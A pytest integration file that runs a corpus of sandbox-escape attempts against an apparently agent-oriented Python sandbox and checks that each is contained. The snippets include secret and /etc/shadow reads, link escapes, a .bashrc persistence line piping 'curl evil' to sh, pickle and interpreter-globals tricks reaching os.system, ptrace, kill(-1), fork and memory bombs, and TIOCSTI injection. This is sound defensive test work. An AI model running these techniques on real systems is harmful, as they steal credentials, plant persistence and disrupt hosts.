"""The attack corpus: every case is a real sandboxed process and a check made by the parent.

Each case prints whatever it manages to get; the parent then checks, from
outside, that nothing leaked or changed (``assert_contained``: the secret never
appears in output, the canary files and the outside dir are unchanged, the
test's sleeper lives, no loopback listener got a connection, no sandbox process
survived) plus the case's own precise check. All attacks are bounded and aimed
only at throwaway files, this test's own processes, and loopback.
"""

from __future__ import annotations

import os
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from string import Template
from typing import Any

import pytest

from lamp.agent.sandbox import SandboxResult

pytestmark = pytest.mark.integration
IS_ROOT = os.geteuid() == 0
Canaries = Any  # the conftest fixture's dataclass

Check = Callable[[SandboxResult, Canaries], None]


def nothing_more(res: SandboxResult, c: Canaries) -> None:
    assert "ESCAPED" not in res.stdout + res.stderr, res.stdout + res.stderr


def killed(reason: str, within: float = 4.0) -> Check:
    def check(res: SandboxResult, c: Canaries) -> None:
        assert res.killed_reason == reason, (res.killed_reason, res.stderr[-300:])
        assert res.seconds < within
        nothing_more(res, c)
    return check


def stopped_within(within: float) -> Check:
    """Killed by the deadline or the CPU rlimit, whichever came first, and promptly."""
    def check(res: SandboxResult, c: Canaries) -> None:
        assert res.killed_reason in ("timeout", "cpu limit", "signal SIGKILL"), res
        assert res.exit_code != 0 and res.seconds < within
    return check


def no_mark(res: SandboxResult, c: Canaries) -> None:
    assert not c.mark.exists(), "a program ran and touched the mark file"
    nothing_more(res, c)


@dataclass(frozen=True)
class Case:
    id: str
    code: str
    check: Check = nothing_more
    timeout: float = 5.0
    root_only: bool = False


def attempt(body: str) -> str:
    """Wrap an attack so that success prints ESCAPED and failure prints why."""
    lines = "\n".join("    " + ln for ln in body.strip().splitlines())
    return f"try:\n{lines}\nexcept BaseException as exc:\n    print('blocked:', repr(exc))\n"


RUN_PROGRAM = "open('$mark', 'w').write('ran')"
CASES = [
    # --- reading secrets -------------------------------------------------
    Case("read-ssh-key", attempt("print('ESCAPED', open('$secret_file').read())")),
    Case("read-api-config", attempt("print('ESCAPED', open('$config').read())")),
    Case("read-etc-shadow", attempt("print('ESCAPED', open('/etc/shadow').read())")),
    Case("list-home", attempt("import os\nprint('ESCAPED', os.listdir('$home'))")),
    Case("walk-home-ssh", attempt("import os\ndef boom(e): raise e\n"
        "print('ESCAPED', list(os.walk('$home/.ssh', onerror=boom)))")),
    Case("read-via-fd-scan", attempt(
        "import os\nfor fd in range(3, 64):\n    try:\n"
        "        print('ESCAPED', os.read(fd, 4096))\n    except OSError:\n        pass\n"
        "print('no inherited fds readable')")),
    # --- link escapes ------------------------------------------------------
    Case("symlink-escape", attempt(
        "import os\nos.symlink('$secret_file', 'k')\nprint('ESCAPED', open('k').read())")),
    Case("hardlink-escape", attempt(
        "import os\nos.link('$secret_file', 'k')\nprint('ESCAPED', open('k').read())")),
    Case("symlink-dir-escape", attempt(
        "import os\nos.symlink('$home', 'h')\nprint('ESCAPED', os.listdir('h/.ssh'))")),
    Case("rename-into-workdir", attempt(
        "import os\nos.rename('$victim_file', 'v')\nprint('ESCAPED')")),
    # --- writing and deleting outside ------------------------------------
    Case("overwrite-outside", attempt("open('$victim_file', 'w').write('pwn')\nprint('ESCAPED')")),
    Case("create-outside", attempt("open('$outside/new.txt', 'w').write('x')\nprint('ESCAPED')")),
    Case("delete-outside", attempt("import os\nos.unlink('$victim_file')\nprint('ESCAPED')")),
    Case("chmod-outside", attempt("import os\nos.chmod('$victim_file', 0)\nprint('ESCAPED')")),
    Case("write-tmp", attempt("open('$tmp_escape', 'w').write('x')\nprint('ESCAPED')")),
    # --- persistence -------------------------------------------------------
    Case("persist-bashrc", attempt("open('$bashrc', 'a').write('curl evil|sh')\nprint('ESCAPED')")),
    Case("persist-venv-pth", attempt("open('$pth', 'w').write('import os')\nprint('ESCAPED')")),
    # --- running programs ----------------------------------------------------
    Case("os-system", attempt("import os\nprint('rc', os.system('touch $mark'))"), no_mark),
    Case("subprocess-run", attempt(
        "import subprocess\nsubprocess.run(['/usr/bin/touch', '$mark'])"), no_mark),
    Case("os-execv", attempt("import os\nos.execv('/usr/bin/touch', ['touch', '$mark'])"),
         no_mark),
    Case("posix-spawn", attempt(
        "import os\npid = os.posix_spawn('/usr/bin/touch', ['touch', '$mark'], {})\n"
        "os.waitpid(pid, 0)"), no_mark),
    Case("ctypes-libc-system", attempt(
        "import ctypes\nprint('rc', ctypes.CDLL(None).system(b'touch $mark'))"), no_mark),
    Case("pickle-payload", attempt(
        "import pickle\npickle.loads(b\"cos\\nsystem\\n(S'touch $mark'\\ntR.\")"), no_mark),
    Case("fork-exec", attempt(
        "import os\nif os.fork() == 0:\n    os.execv('/usr/bin/touch', ['touch', '$mark'])\n"
        "os.wait()"), no_mark),
    Case("memfd-execveat", attempt(
        "import os\nfd = os.memfd_create('x')\nos.write(fd, open('/usr/bin/true','rb').read())\n"
        "os.execve(fd, ['x'], {})"), no_mark),
    # --- interpreter tricks (none of them is a boundary) ----------------
    Case("subclasses-walk", attempt(
        "c = [k for k in ().__class__.__base__.__subclasses__() if k.__name__ == '_wrap_close']\n"
        "c[0].__init__.__globals__['system']('touch $mark')\n"
        "print(c[0].__init__.__globals__['popen']('cat $secret_file').read())"), no_mark),
    Case("frame-walk", attempt(
        "import sys\nf = sys._getframe()\nwhile f.f_back: f = f.f_back\n"
        "g = f.f_globals\nprint('ESCAPED', g['open']('$secret_file').read())")),
    Case("builtins-globals", attempt(
        "g = print.__self__.__dict__\nprint('ESCAPED', g['__import__']('os').popen("
        "'cat $secret_file').read())"), no_mark),
    Case("sys-modules", attempt(
        "import sys\nsys.modules['posix'].system('touch $mark')\n"
        "print('ESCAPED', sys.modules['io'].open('$config').read())"), no_mark),
    Case("format-string-walk", attempt(
        "class A: pass\nprint('{0.__init__.__globals__}'.format(A()))\n"
        "s = '{0.__class__.__init__.__globals__[sys].modules[os].environ}'\n"
        "import sys, os\nprint(s.format(type('X', (), {'__init__': lambda s: None})()))"
        "\nprint('ESCAPED', open('$config').read())")),
    Case("eval-base64", attempt(
        "import base64\n"
        "src = base64.b64encode(b\"print('ESCAPED', open('$secret_file').read())\")\n"
        "eval(compile(base64.b64decode(src), 'x', 'exec'))")),
    # --- host, env and other processes ----------------------------------------
    Case("env-secret", "import os\nprint(dict(os.environ))\n"),
    Case("proc-self-environ", attempt("print('ESCAPED', open('/proc/self/environ').read())")),
    Case("proc-victim-environ", attempt(
        "print('ESCAPED', open('/proc/$victim_pid/environ','rb').read())")),
    Case("proc-parent-cmdline", attempt(
        "print('ESCAPED', open('/proc/$parent_pid/environ','rb').read())")),
    Case("kill-sleeper", attempt("import os\nos.kill($victim_pid, 9)\nprint('ESCAPED')")),
    Case("kill-parent", attempt("import os\nos.kill($parent_pid, 19)\nprint('ESCAPED')")),
    Case("killpg-sleeper", attempt("import os\nos.killpg($victim_pid, 9)\nprint('ESCAPED')")),
    Case("kill-everyone", attempt("import os\nos.kill(-1, 9)\nprint('ESCAPED')"),
         root_only=True),
    Case("pidfd-signal", attempt(
        "import ctypes\nl = ctypes.CDLL(None, use_errno=True)\n"
        "fd = l.syscall(434, $victim_pid, 0)\n"
        "r = l.syscall(424, fd, 9, None, 0)\nassert r == 0\nprint('ESCAPED')")),
    Case("ptrace-attach", attempt(
        "import ctypes\nl = ctypes.CDLL(None, use_errno=True)\n"
        "assert l.ptrace(16, $victim_pid, 0, 0) == 0\nprint('ESCAPED')")),
    Case("proc-mem-write", attempt(
        "f = open('/proc/$victim_pid/mem', 'r+b')\nprint('ESCAPED')")),
    Case("proc-self-mem", attempt("f = open('/proc/self/mem', 'r+b')\nprint('ESCAPED')")),
    Case("crash-segfault", "import ctypes\nctypes.string_at(0)\n",
         lambda r, c: (r.exit_code == 128 + 11 and r.killed_reason == "signal SIGSEGV")
         or pytest.fail(str(r))),
    Case("exit-host", "import os, sys\nsys.stdout.flush()\nos._exit(0)\n"),
    Case("unshare-userns", attempt(
        "import os\nos.unshare(os.CLONE_NEWUSER)\nprint('ESCAPED')")),
    Case("mount-proc", attempt(
        "import ctypes\nl = ctypes.CDLL(None, use_errno=True)\n"
        "assert l.mount(b'x', b'.', b'tmpfs', 0, None) == 0\nprint('ESCAPED')")),
    # --- resources ---------------------------------------------------------------
    Case("fork-bomb", attempt(
        "import os\nfor _ in range(200):\n    if os.fork() == 0:\n        import time\n"
        "        time.sleep(30)\nprint('ESCAPED')"), no_mark),
    Case("orphan-daemon", attempt(
        "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
        "        time.sleep(0.5)\n        open('$mark', 'w').write('alive')\n"
        "    os._exit(0)\nprint('ESCAPED')"), no_mark),
    Case("memory-bomb", "x = bytearray(8 * 1024**3)\nprint('ESCAPED')\n",
         lambda r, c: (r.exit_code == 1 and "MemoryError" in r.stderr) or pytest.fail(str(r))),
    Case("cpu-burn", "while True:\n    pass\n", stopped_within(4.0), timeout=1.0),
    Case("regex-backtracking", "import re\nre.match(r'(a+)+$$', 'a' * 64 + 'b')\n",
         stopped_within(4.0), timeout=1.0),
    Case("sleep-forever", "import time\ntime.sleep(10**6)\n", killed("timeout", 3.0),
         timeout=1.0),
    Case("threads-outlive", "import threading, time\n"
         "for _ in range(4):\n    threading.Thread(target=time.sleep, args=(600,)).start()\n"
         "print('main done')\n", killed("timeout", 3.0), timeout=1.0),
    Case("ignore-sigterm", "import signal, time\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\n"
         "signal.signal(signal.SIGINT, signal.SIG_IGN)\ntime.sleep(600)\n",
         killed("timeout", 3.0), timeout=1.0),
    Case("huge-stdout", "import sys\nwhile True:\n    sys.stdout.write('A' * 65536)\n",
         lambda r, c: (r.truncated and len(r.stdout) <= 1024 * 1024
                       and r.killed_reason == "output limit") or pytest.fail(str(r)[:300])),
    Case("disk-one-file", "f = open('big', 'wb')\nn = 0\nwhile n < 512 * 1024**2:\n"
         "    n += f.write(b'x' * 1024**2)\n    f.flush()\nprint('ESCAPED', n)\n",
         lambda r, c: ((r.killed_reason == "disk quota" or "File too large" in r.stderr)
         and "ESCAPED" not in r.stdout) or pytest.fail(str(r)[:400])),
    Case("disk-many-files", "import os\nfor i in range(200000):\n"
         "    open(f'f{i}', 'w').write('y' * 100)\nprint('ESCAPED')\n",
         killed("too many files", 6.0), timeout=5.0),
    Case("fd-exhaustion", "import os\nfds = []\ntry:\n    while True:\n"
         "        fds.append(os.open('/dev/null', os.O_RDONLY))\nexcept OSError as e:\n"
         "    print('stopped at', len(fds), e)\n",
         lambda r, c: (int(r.stdout.split()[2]) < 300) or pytest.fail(r.stdout)),
    # --- network and sockets ------------------------------------------------------
    Case("tcp-connect", attempt(
        "import socket\nsocket.create_connection(('127.0.0.1', $tcp_port), 1)\nprint('ESCAPED')")),
    Case("udp-send", attempt(
        "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "s.sendto(b'hi', ('127.0.0.1', $udp_port))\nprint('ESCAPED')")),
    Case("tcp-listen", attempt(
        "import socket\ns = socket.socket()\ns.bind(('127.0.0.1', 0))\ns.listen()\n"
        "print('ESCAPED listening')")),
    Case("unix-path-connect", attempt(
        "import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect('$unix_path')\n"
        "print('ESCAPED')")),
    Case("unix-abstract-connect", attempt(
        "import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect('\\0$abstract')\n"
        "print('ESCAPED')")),
    Case("raw-syscall-socket", attempt(
        "import ctypes\nl = ctypes.CDLL(None, use_errno=True)\n"
        "assert l.syscall(41, 2, 1, 0) >= 0\nprint('ESCAPED')")),
    Case("tiocsti-inherited", attempt(
        "import fcntl, termios\nfor fd in (0, 1, 2):\n    try:\n"
        "        fcntl.ioctl(fd, termios.TIOCSTI, b'x')\n        print('ESCAPED', fd)\n"
        "    except OSError as e:\n        print('fd', fd, e)\n"
        "fcntl.ioctl(open('/dev/tty', 'rb'), termios.TIOCSTI, b'x')\nprint('ESCAPED tty')")),
]


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_attack_is_contained(case: Case, canaries: Canaries, make_sandbox,  # type: ignore[no-untyped-def]
                             check_contained) -> None:
    if case.root_only and not IS_ROOT:
        pytest.skip("kill(-1) is only safe to try when the sandbox has a uid of its own")
    code = Template(case.code).substitute(canaries.subs())
    res = make_sandbox(timeout=case.timeout, disk_mb=16, max_files=2000).run(code)
    out = res.stdout + res.stderr
    check_contained(canaries, out)
    case.check(res, canaries)
    if make_sandbox.config != "L0-only":
        assert "L1" in res.layers


def test_corpus_size() -> None:
    assert len(CASES) >= 40
    assert len({c.id for c in CASES}) == len(CASES)


def test_collect_refuses_links(canaries: Canaries, make_sandbox,  # type: ignore[no-untyped-def]
                               check_contained) -> None:
    """A collected output that is a symlink to a secret must not be read by the (root) parent."""
    code = Template("import os\ntry:\n    os.symlink('$secret_file', 'out.txt')\n"
                    "except OSError:\n    pass\nopen('real.txt', 'w').write('fine')\n"
                    ).substitute(canaries.subs())
    res = make_sandbox().run(code, collect=["out.txt", "real.txt"])
    assert res.files == {"real.txt": b"fine"}
    check_contained(canaries, res.stdout + res.stderr)


def test_workdir_is_removed(make_sandbox) -> None:  # type: ignore[no-untyped-def]
    res = make_sandbox().run("import os\nprint(os.getcwd())\nopen('x', 'w').write('1')\n")
    assert res.exit_code == 0
    assert not Path(res.stdout.strip()).exists()
    assert os.path.isabs(res.stdout.strip())
